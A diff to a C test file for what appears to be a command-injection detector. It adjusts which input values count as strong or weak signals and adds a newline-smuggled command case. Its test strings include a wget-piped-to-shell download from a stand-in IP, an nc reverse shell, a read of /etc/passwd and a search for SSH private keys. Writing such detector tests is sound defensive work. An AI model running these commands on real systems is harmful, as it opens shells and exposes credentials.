@@ -114,7 +114,9 @@ static void values_alone(void)
 {
     STRONG("cat /etc/passwd", "sh:cat");
     STRONG("/bin/cat /etc/passwd", "cat");
-    STRONG("/usr/bin/id", "id");
+    WEAK("/usr/bin/id");                     /* a setting could hold it */
+    STRONG("/bin/ls -la", "ls");
+    STRONG("x\n/usr/bin/id", "id");
     STRONG("wget http://198.51.100.7/a.sh -O- | sh", "wget");
     STRONG("nc -e /bin/sh 10.0.0.2 4444", "nc");
     STRONG("find / -name id_rsa", "find");
